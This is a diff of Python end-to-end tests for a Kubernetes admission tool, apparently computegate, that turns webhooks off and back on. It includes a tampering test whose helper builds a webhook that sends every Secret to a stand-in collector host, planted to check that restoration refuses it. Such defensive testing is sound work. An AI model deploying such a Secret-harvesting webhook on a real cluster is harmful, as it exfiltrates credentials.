@@ -18,7 +18,7 @@ from tests.e2e.world import eventually
 from tools.installation import NAMESPACE
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Callable, Iterator
 
     from tests.e2e.world import World
 
@@ -65,42 +65,126 @@ def bare(world: World) -> dict[str, Any]:
     return {"metadata": kept, "webhooks": stored["webhooks"], "managers": managers}
 
 
-def _refuse_while_missing(world: World) -> None:
-    """Install a policy that refuses what it matches for as long as our configuration is missing."""
-    registration = {"apiVersion": "admissionregistration.k8s.io/v1", "metadata": {"name": "computegate-missing"}}
-    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
-    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration"}
-    enforced = {"matchLabels": {"computegate.io/switch": "missing"}}
-    policy = {
-        "paramKind": kind,
-        "failurePolicy": "Fail",
-        "matchConstraints": {"resourceRules": [rule], "namespaceSelector": enforced},
-        "validations": [{"expression": "params.webhooks.size() > 0"}],
-    }
-    binding = {
-        "policyName": "computegate-missing",
-        "validationActions": ["Deny"],
-        "paramRef": {"name": "computegate", "parameterNotFoundAction": "Deny"},
-    }
-    world.apply(
-        {**registration, "kind": "ValidatingAdmissionPolicy", "spec": policy},
-        {**registration, "kind": "ValidatingAdmissionPolicyBinding", "spec": binding},
-    )
+NARROWED = ("validatingadmissionpolicybinding", "computegate-narrowed")
 
 
+@pytest.fixture
+def blocked_when_missing(world: World) -> Iterator[None]:
+    """The release refuses the pods of enforced namespaces for as long as its configuration is missing."""
+    rendered = world.installed.rendered({**world.installed._values, "guards.blockWhenMissing": "true"})
+    world.apply(*(each for each in rendered if each["metadata"]["name"] in {"computegate-gate", NARROWED[1]}))
+    yield
+    computegate(world, "on")
+    world.installed.apply()
+
+
+@pytest.mark.usefixtures("blocked_when_missing")
 def test_what_refuses_pods_while_the_gate_is_missing_goes_with_it_and_comes_back(
     world: World, country: str, unique: str
 ) -> None:
-    _refuse_while_missing(world)
     world.apply(quota(unique, country, 0), tenant(unique, country), namespace(unique, unique))
-    world.kubectl("label", "namespace", unique, "computegate.io/switch=missing")
-    before = world.get("validatingadmissionpolicybinding", "computegate-missing")["spec"]
+    before = world.get(*NARROWED)["spec"]
+    assert before["paramRef"]["parameterNotFoundAction"] == "Deny"
     with world.installed.stopped():
         assert computegate(world, "off", "--reason", "the servers do not start").returncode == 0
         eventually(lambda: world.try_create(gpu_pod("first", unique)).returncode, lambda code: code == 0)
     assert computegate(world, "on").returncode == 0
-    assert world.get("validatingadmissionpolicybinding", "computegate-missing")["spec"] == before
-    world.kubectl("delete", "validatingadmissionpolicybinding,validatingadmissionpolicy", "computegate-missing")
+    assert world.get(*NARROWED)["spec"] == before
+
+
+def test_what_refuses_for_somebody_else_is_named_and_left_alone(world: World) -> None:
+    name = "somebody-else"
+    spec = {
+        "policyName": name,
+        "validationActions": ["Deny"],
+        "paramRef": {"name": "computegate", "parameterNotFoundAction": "Deny"},
+    }
+    kind = "ValidatingAdmissionPolicyBinding"
+    registration = {"apiVersion": "admissionregistration.k8s.io/v1", "metadata": {"name": name}}
+    world.apply({**registration, "kind": kind, "spec": spec})
+    done = computegate(world, "off", "--reason", "a test")
+    assert f"by what is not the release's: kubectl delete validatingadmissionpolicybinding {name}" in done.stdout
+    assert world.get(kind, name)["spec"]["paramRef"] == spec["paramRef"]
+    world.kubectl("delete", kind, name)
+
+
+def _elsewhere(stored: dict[str, Any], name: str) -> dict[str, Any]:
+    """Return the configuration as one that sends every Secret to a stranger."""
+    rules = [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}]
+    entry = {**stored["webhooks"][0], "clientConfig": {"url": "https://collector.example/"}, "rules": rules}
+    return {**stored, "metadata": {"name": name}, "webhooks": [entry]}
+
+
+FOREIGN = "innocent"
+PLANTED: dict[str, tuple[Callable[[dict[str, Any]], dict[str, Any]], int, str]] = {
+    "its content": (lambda kept: _elsewhere(kept, "computegate"), 0, ""),
+    "another object": (lambda kept: _elsewhere(kept, FOREIGN), 2, f"{FOREIGN} was kept, which is not the release's"),
+    "another kind": (lambda kept: {**kept, "kind": "ClusterRole"}, 2, "ClusterRole computegate was kept"),
+    "no object": (lambda _: {}, 2, "computegate on: "),
+}
+"""What who is on call writes into the ConfigMap, beside the exit code of ``on`` and what it says."""
+
+
+@pytest.mark.parametrize("what", PLANTED)
+def test_what_is_made_again_is_the_release_s_whatever_the_configmap_says(world: World, what: str) -> None:
+    plant, code, said = PLANTED[what]
+    was = bare(world)
+    assert computegate(world, "off", "--reason", "a test").returncode == 0
+    held = world.get("configmap", "computegate-off", "-n", NAMESPACE)["data"]
+    (kept,) = json.loads(held["taken"])
+    _write(world, "computegate-off", {**held, "taken": json.dumps([{**kept, "object": plant(kept["object"])}])})
+    done = computegate(world, "on")
+    assert done.returncode == code
+    assert said in done.stderr
+    assert world.kubectl("get", CONFIGURATION[0], FOREIGN, check=False).returncode == 1
+    if code == 0:
+        assert bare(world)["webhooks"] == was["webhooks"]
+    else:
+        assert world.kubectl("get", *CONFIGURATION, check=False).returncode == 1
+        _write(world, "computegate-off", held)
+
+
+def test_on_reads_no_other_configmap_and_none_without_a_digest(world: World) -> None:
+    assert computegate(world, "off", "--reason", "a test").returncode == 0
+    held = world.get("configmap", "computegate-off", "-n", NAMESPACE)["data"]
+    (kept,) = json.loads(held["taken"])
+    planted = json.dumps([{**kept, "object": _elsewhere(kept["object"], FOREIGN)}])
+    _write(world, "aaa", {"history": held["history"], "taken": planted})
+    _write(world, "computegate-off", {key: text for key, text in held.items() if key != "installed"})
+    done = computegate(world, "on")
+    assert (done.returncode, done.stderr) == (
+        2,
+        "computegate on: the release was changed since it was taken out: run helm upgrade instead\n",
+    )
+    assert world.kubectl("get", CONFIGURATION[0], FOREIGN, check=False).returncode == 1
+    _write(world, "computegate-off", held)
+    assert computegate(world, "on").returncode == 0
+    assert world.kubectl("get", CONFIGURATION[0], FOREIGN, check=False).returncode == 1
+    world.kubectl("delete", "configmap", "aaa", "-n", NAMESPACE)
+
+
+def _write(world: World, name: str, data: dict[str, str]) -> None:
+    metadata = {"name": name, "namespace": NAMESPACE}
+    stored = json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata, "data": data})
+    found = world.kubectl("get", "configmap", name, "-n", NAMESPACE, check=False).returncode == 0
+    world.kubectl("replace" if found else "create", "-f", "-", stdin=stored)
+
+
+def test_who_is_on_call_does_not_write_what_on_makes(world: World, unique: str) -> None:
+    _give(world, unique, "computegate-oncall")
+    asked = {
+        (verb, name): world.kubectl(
+            *("auth", "can-i", verb, f"configmap/{name}", "-n", NAMESPACE, "--as", unique), check=False
+        ).stdout.strip()
+        for verb in ("get", "update")
+        for name in ("computegate-off", "computegate-gate")
+    }
+    assert asked == {
+        ("get", "computegate-off"): "yes",
+        ("get", "computegate-gate"): "yes",
+        ("update", "computegate-off"): "yes",
+        ("update", "computegate-gate"): "no",
+    }
 
 
 @pytest.mark.parametrize("servers", ["alive", "dead", "mute"])
@@ -163,6 +247,30 @@ def test_off_needs_a_reason(world: World) -> None:
     assert done.returncode == 2
     assert "--reason is empty" in done.stderr
     assert world.get(*CONFIGURATION)
+
+
+def test_off_refuses_a_namespace_that_is_not_the_release_s(world: World) -> None:
+    done = computegate(world, "off", "--reason", "a test", "-n", "default")
+    assert (done.returncode, done.stderr) == (
+        2,
+        "computegate off: no ConfigMap computegate-gate in namespace default: give the release's, or --force\n",
+    )
+    assert world.get(*CONFIGURATION)
+
+
+def test_off_that_fails_is_not_off_in_the_history(world: World, unique: str) -> None:
+    seeing = ("--verb=get,list", "--resource=validatingwebhookconfigurations.admissionregistration.k8s.io")
+    world.kubectl("create", "clusterrole", unique, *seeing)
+    notes = ("--verb=get,create,update", "--resource=configmaps", "-n", NAMESPACE)
+    world.kubectl("create", "role", unique, *notes)
+    world.kubectl("create", "clusterrolebinding", unique, f"--clusterrole={unique}", f"--user={unique}")
+    world.kubectl("create", "rolebinding", unique, f"--role={unique}", f"--user={unique}", "-n", NAMESPACE)
+    kubeconfig = world.installed.plane.kubeconfig_for(unique)
+    command = [sys.executable, "-m", "admission.cli.main", "off", "--reason=a test", "--kubeconfig", str(kubeconfig)]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
+    assert done.returncode == 2
+    assert world.get(*CONFIGURATION)
+    assert [each["what"] for each in history(world)[-2:]] == ["off", "failed"]
 
 
 def test_without_the_program_kubectl_does_it_and_the_chart_puts_it_back(
